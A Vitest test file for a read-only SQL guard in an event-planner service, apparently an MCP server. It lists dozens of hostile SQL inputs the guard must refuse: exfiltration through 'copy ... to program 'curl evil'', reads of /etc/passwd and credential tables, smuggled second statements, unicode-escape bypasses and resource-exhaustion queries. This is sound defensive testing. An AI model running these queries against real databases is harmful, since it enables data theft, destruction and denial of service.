import { describe, expect, it } from "vitest";
import { checkReadonlySql } from "./guard.js";

async function refusal(sql: string): Promise<string> {
  try {
    await checkReadonlySql(sql);
  } catch (error) {
    expect(error).toMatchObject({ code: "validation_failed", details: { field: "sql" } });
    return (error as Error).message;
  }
  throw new Error(`accepted: ${sql}`);
}

describe("read-only SQL guard", () => {
  it.each([
    "select title, headcount from events order by created_at desc",
    "select e.title, count(g.id) from events e left join guests g on g.event_id = e.id group by e.title",
    "with accepted as (select * from guests where rsvp_status = 'accepted') select count(*) from accepted",
    "select city, round(avg(day_rate_minor)) from venues where capacity >= 40 group by city;",
    "select 'Chloé' as name, title from events -- trailing comment",
    "select date_trunc('month', starts_at at time zone time_zone) as month, count(*) from events group by 1",
    "select lower(name), dietary from guests where 'vegan' = any(dietary)",
  ])("accepts a reporting query: %s", async (sql) => {
    await expect(checkReadonlySql(sql)).resolves.toBeTypeOf("string");
  });

  it("returns the statement alone, without the trailing semicolon, byte offsets read right", async () => {
    expect(await checkReadonlySql("select 'Chloé', 'José' from events;")).toBe("select 'Chloé', 'José' from events");
  });

  it.each([
    ["select 1; commit; drop table events", /exactly one statement/],
    ["select 1; select 2", /exactly one statement/],
    ["drop table events", /only SELECT/],
    ["insert into events (title) values ('x')", /only SELECT/],
    ["update guests set rsvp_status = 'accepted'", /only SELECT/],
    ["with gone as (delete from guests returning *) select * from gone", /DeleteStmt/],
    ["with moved as (update events set headcount = 1 returning *) select 1", /UpdateStmt/],
    ["copy (select * from guests) to program 'curl evil'", /only SELECT/],
    ["copy events to '/tmp/x'", /only SELECT/],
    ["set role postgres", /only SELECT/],
    ["reset role", /only SELECT/],
    ["select set_config('role', 'postgres', false)", /function set_config/],
    ["select set_config('event_planner.workspace_id', '00000000-0000-0000-0000-000000000000', true)", /function set_config/],
    ["select pg_sleep(10)", /function pg_sleep/],
    ["select pg_catalog.pg_sleep(10)", /pg_sleep/],
    ["select pg_terminate_backend(pid) from pg_stat_activity", /function pg_terminate_backend|pg_stat_activity/],
    ["select * from dblink('dbname=test', 'select 1') as t(x int)", /dblink/],
    ["select pg_read_file('/etc/passwd')", /pg_read_file/],
    ["select lo_import('/etc/passwd')", /lo_import/],
    ["select * from api_keys", /table api_keys is not readable/],
    ["select * from runs", /table runs is not readable/],
    ["select * from pg_catalog.pg_authid", /pg_catalog\.pg_authid/],
    ["select * from pg_shadow", /pg_shadow/],
    ["select * from information_schema.tables", /information_schema/],
    ["select * from public.api_keys", /api_keys/],
    ["select * from test.public.events", /cross-database/],
    ["select * from events for update", /row locks/],
    ["select * into stolen from events", /SELECT INTO/],
    ["select $1", /ParamRef/],
    ["select 'pg_shadow'::regclass", /cast to regclass/],
    ["select * from (with pg_shadow as (select 1) select 1) a, pg_shadow", /pg_shadow/],
    ["select /* hidden */ pg_sleep/**/(5)", /pg_sleep/],
    ["select U&\"\\0070g_sleep\"(5)", /pg_sleep/],
    ["select * from U&\"\\0061pi_keys\"", /api_keys/],
    ["select $$x$$; drop table events", /exactly one statement/],
    ["select count(*) from events a, events b, events c, events d, events e, events f, events g", /at most 6 table references/],
    ["", /syntax error|exactly one statement/],
    ["select * from events where", /syntax error/],
  ])("refuses %s", async (sql, reason) => {
    expect(await refusal(sql)).toMatch(reason);
  });

  // Issue 11: more ways to write, escalate, leak or exhaust through "one SELECT". Reads across
  // workspaces through joins pass the guard by design and are cut by row-level security: see
  // mcp-servers/isolation-matrix.test.ts, which runs them against a second workspace's rows.
  it.each([
    // session and role settings
    ["select set_config('search_path', 'pg_catalog', false) from events", /function set_config/],
    ["select current_setting('event_planner.workspace_id')", /function current_setting/],
    ["set session authorization postgres", /only SELECT/],
    ["set local event_planner.workspace_id = '00000000-0000-0000-0000-000000000000'", /only SELECT/],
    // files, large objects, other databases, the network
    ["select pg_ls_dir('.')", /function pg_ls_dir/],
    ["select pg_read_binary_file('/etc/passwd')", /function pg_read_binary_file/],
    ["select lo_export(1, '/tmp/x')", /function lo_export/],
    ["select dblink_exec('dbname=test', 'drop table events')", /function dblink_exec/],
    ["select query_to_xml('select * from api_keys', true, true, '')", /function query_to_xml/],
    ["copy guests from program 'id'", /only SELECT/],
    // writes hidden in CTEs, subqueries and functions
    ["with x as (insert into events (title) values ('x') returning id) select * from x", /InsertStmt/],
    ["select * from (with d as (delete from tasks returning *) select * from d) s", /DeleteStmt/],
    ["with m as (merge into events e using venues v on false when not matched then do nothing) select 1", /syntax error|MergeStmt/],
    ["select nextval('events_id_seq')", /function nextval/],
    ["select txid_current()", /function txid_current/],
    ["create temp table stolen as select * from guests", /only SELECT/],
    // casts to object-identifier types and function-call casts
    ["select cast('api_keys' as regclass)", /cast to regclass/],
    ["select 'pg_sleep'::regproc", /cast to regproc/],
    ["select regclass('api_keys')", /function regclass/],
    ["select text 'x'::regrole", /cast to regrole/],
    // unicode escapes, dollar quoting and comments around a second statement
    ["select * from U&\"\\0070g_authid\"", /pg_authid/],
    ["select U&\"p\\0067_read_file\"('/etc/passwd')", /pg_read_file/],
    ["select $tag$;$tag$; delete from events", /exactly one statement/],
    ["select 1 /* ; */ ; update events set title = 'x' /* ; */", /exactly one statement/],
    ["select 1 -- harmless\n; drop table guests", /exactly one statement/],
    // the catalogue and other schemas, however deeply nested
    ["select (select count(*) from pg_catalog.pg_class)", /pg_catalog\.pg_class/],
    ["select exists (select 1 from information_schema.columns where table_name = 'api_keys')", /information_schema\.columns/],
    ["select count(*) from (select * from (select * from (select * from pg_roles) a) b) c", /pg_roles/],
    ["select * from events where workspace_id in (select workspace_id from api_keys)", /api_keys/],
    ["select e.title, k.key_hash from events e join api_keys k on k.workspace_id = e.workspace_id", /api_keys/],
    ["select * from events e, lateral (select * from webhook_deliveries) w", /webhook_deliveries/],
    ["select * from pg_temp.stolen", /pg_temp\.stolen/],
    ["table api_keys", /api_keys/],
    ["select * from other_db.public.events", /cross-database/],
    // time and memory exhaustion
    ["select pg_sleep_for('1 hour')", /function pg_sleep_for/],
    ["select count(*) from events, lateral (select pg_sleep(1)) s", /function pg_sleep/],
    ["select count(*) from generate_series(1, 1000000000)", /function generate_series/],
    ["select sum(x) from unnest(array(select generate_series(1, 1e9))) x", /function generate_series/],
    ["with recursive r(n) as (select 1 union all select n + 1 from r) select count(*) from r", /WITH RECURSIVE/],
    ["select * from (with recursive r(n) as (select 1 union all select n from r) select n from r) s", /WITH RECURSIVE/],
    ["select format('%999999999s', 'x')", /function format/],
    ["select length(replace(replace(replace('aaaaaaaaaa', 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'))", /function replace/],
    ["select repeat('x', 1000000000)", /function repeat/],
    ["select lpad('x', 1000000000)", /function lpad/],
    ["select pg_advisory_lock(1)", /function pg_advisory_lock/],
    // locks, prepared statements, transaction control and everything else that is not a SELECT
    ["lock table events in access exclusive mode", /only SELECT/],
    ["select * from events for share", /row locks/],
    ["select * from guests for no key update skip locked", /row locks/],
    ["prepare steal as select * from api_keys", /only SELECT/],
    ["execute steal", /only SELECT/],
    ["deallocate all", /only SELECT/],
    ["begin; select 1", /exactly one statement/],
    ["commit", /only SELECT/],
    ["rollback", /only SELECT/],
    ["savepoint s1", /only SELECT/],
    ["set transaction read write", /only SELECT/],
    ["explain analyze delete from events", /only SELECT/],
    ["do $$ begin perform pg_sleep(10); end $$", /only SELECT/],
    ["call refresh_everything()", /only SELECT/],
    ["listen leaks", /only SELECT/],
    ["select pg_notify('leaks', 'x')", /function pg_notify/],
    ["discard all", /only SELECT/],
    ["vacuum full events", /only SELECT/],
    ["select xmlparse(document '<a/>')", /XmlExpr/],
  ])("refuses the bypass %s", async (sql, reason) => {
    expect(await refusal(sql)).toMatch(reason);
  });

  it("refuses an oversized query before parsing it", async () => {
    expect(await refusal(`select ${"1 + ".repeat(5000)}1`)).toMatch(/at most 10000 characters/);
  });
});
